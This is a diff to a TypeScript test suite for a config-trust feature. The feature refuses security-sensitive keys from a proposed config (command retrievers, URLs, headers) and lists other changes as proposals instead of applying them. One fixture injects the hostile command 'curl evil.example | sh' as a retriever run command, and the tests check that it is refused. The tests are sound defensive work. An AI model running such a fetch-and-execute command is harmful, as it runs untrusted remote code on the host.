@@ -8,7 +8,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { main } from '../../src/cli/main';
 import { parseConfig } from '../../src/config/parse';
-import { applyTrust, isTrustedKey, TRUSTED_KEY_NAMES, TRUSTED_KEY_PATHS } from '../../src/config/trust';
+import { applyTrust, TRUSTED_KEY_PATHS } from '../../src/config/trust';
 import type { Config } from '../../src/config/types';
 import { InputError } from '../../src/errors';
 import { recordingIo } from '../support/recording-io';
@@ -31,16 +31,18 @@ function parseError(text: string): InputError {
 }
 
 describe('applyTrust', () => {
-  test('a head that switches to a command retriever keeps the base retriever; the keys are named', () => {
+  test('a head that switches to a command retriever keeps the base retriever; the keys are named, not shown', () => {
     const head = parseConfig(`${BASE}k: [1, 5]\nchunking: { max_chars: 1200 }\n`.replace('type: hybrid', 'type: command\n  run: "curl evil.example | sh"'), 'h.yml');
     const base = parseConfig(BASE, 'b.yml');
     const t = applyTrust(head, base);
-    expect(t.config.retriever.type).toBe('hybrid');
-    expect(t.config.retriever.run).toBeUndefined();
+    expect(t.config).toEqual(base);
     expect(t.refused).toEqual(['retriever.run', 'retriever.type']);
-    // Inert settings are the head's.
-    expect(t.config.k).toEqual([1, 5]);
-    expect(t.config.chunking.max_chars).toBe(1200);
+    expect(JSON.stringify(t)).not.toContain('evil.example');
+    // What the head changes in what is measured is a proposal, never applied (it used to be taken from the head).
+    expect(t.proposals).toEqual([
+      { key: 'chunking.max_chars', base: '2400', head: '1200', effect: 'how documents are cut into chunks' },
+      { key: 'k', base: '[1,3,5,10]', head: '[1,5]', effect: 'the cut-offs reported and gated' },
+    ]);
   });
 
   test('URLs, key names and cache folders come from the base; a section the base lacks is dropped', () => {
@@ -62,6 +64,7 @@ describe('applyTrust', () => {
       'retriever.rerank.api_key_env',
       'retriever.rerank.url',
     ]);
+    expect(t.proposals).toEqual([]);
   });
 
   test('a dense section only the base has is taken whole (type and URL stay together)', () => {
@@ -70,19 +73,15 @@ describe('applyTrust', () => {
     expect(t.config.retriever.dense?.base_url).toBe('https://embeddings.example.com/v1');
   });
 
-  test('keys named base_url, url, api_key_env, cache_dir, run, headers, pass_env are trusted in any section, listed or not', () => {
-    // A section another part of the tool may add later (a notification endpoint), unknown to the list.
-    const head = { ...parseConfig('', 'h.yml'), notify: { base_url: 'http://127.0.0.1:9/v1', model: 'x', headers: { 'x-key': 'k' } } } as unknown as Config;
+  test('trusted names are matched in any section, inside lists of mappings too, and a whole new branch is walked', () => {
+    // A section another part of the tool may add later, unknown to the list of paths.
+    const head = { ...parseConfig('', 'h.yml'), notify: { base_url: 'http://127.0.0.1:9/v1', model: 'x', headers: { 'x-key': 'k' }, sinks: [{ url: 'http://127.0.0.1:9/a', name: 's' }] } } as unknown as Config;
     const base = { ...parseConfig('', 'b.yml'), notify: { base_url: 'https://chat.example.com/v1', model: 'y' } } as unknown as Config;
     const t = applyTrust(head, base);
-    const notify = (t.config as unknown as { notify: Record<string, unknown> }).notify;
-    expect(notify.base_url).toBe('https://chat.example.com/v1');
-    expect(notify.headers).toBeUndefined();
-    expect(notify.model).toBe('x');
-    expect(t.refused).toEqual(['notify.base_url', 'notify.headers']);
-    for (const name of TRUSTED_KEY_NAMES) expect(isTrustedKey(`anything.${name}`)).toBe(true);
-    for (const key of TRUSTED_KEY_PATHS) expect(isTrustedKey(key)).toBe(true);
-    expect(isTrustedKey('chunking.max_chars')).toBe(false);
+    expect((t.config as unknown as { notify: unknown }).notify).toEqual({ base_url: 'https://chat.example.com/v1', model: 'y' });
+    expect(t.refused).toEqual(['notify.base_url', 'notify.headers', 'notify.sinks[0].url']);
+    expect(t.proposals.map((p) => p.key)).toEqual(['notify.model', 'notify.sinks[0].name']);
+    expect(JSON.stringify(t.proposals)).not.toContain('127.0.0.1');
   });
 
   test("the base's gate is enforced; the head's is a proposal", () => {
@@ -98,9 +97,22 @@ describe('applyTrust', () => {
     expect(bare.refused).toContain('retriever.type');
   });
 
+  test('a long proposed value is shortened; an acknowledgement the head adds is listed item by item', () => {
+    const head = parseConfig(`${BASE}exclude: [${Array.from({ length: 40 }, (_, i) => `"archive-${i}/**"`).join(', ')}]\n`.replace('0.05 }', '0.05 }\n  acknowledged: [{id: R03, reason: "fine"}]'), 'h.yml');
+    const t = applyTrust(head, parseConfig(BASE, 'b.yml'));
+    const exclude = t.proposals.find((p) => p.key === 'exclude')!;
+    expect(exclude.head.length).toBe(120);
+    expect(exclude.head.endsWith('…')).toBe(true);
+    expect(exclude.effect).toBe('which files are measured');
+    expect(t.proposals.filter((p) => p.key.startsWith('gate.acknowledged'))).toEqual([
+      { key: 'gate.acknowledged[0].id', base: '(unset)', head: '"R03"', effect: 'what fails the check' },
+      { key: 'gate.acknowledged[0].reason', base: '(unset)', head: '"fine"', effect: 'what fails the check' },
+    ]);
+  });
+
   test('the same config on both sides changes nothing', () => {
     const t = applyTrust(parseConfig(BASE, 'h.yml'), parseConfig(BASE, 'b.yml'));
-    expect(t).toEqual({ config: parseConfig(BASE, 'x'), refused: [], gateProposal: [] });
+    expect(t).toEqual({ config: parseConfig(BASE, 'x'), refused: [], proposals: [], gateProposal: [] });
   });
 });
 
@@ -164,7 +176,6 @@ describe('what the base key pays for', () => {
     expect(t.config.retriever.dense).toEqual(base.retriever.dense);
     expect(t.config.retriever.rerank).toEqual(base.retriever.rerank);
     expect(t.refused).toEqual(['retriever.dense', 'retriever.rerank']);
-    expect(isTrustedKey('retriever.dense.model')).toBe(false); // trusted as part of its section, not by name
     expect(TRUSTED_KEY_PATHS).toEqual(expect.arrayContaining(['retriever.dense', 'retriever.rerank']));
   });
 });
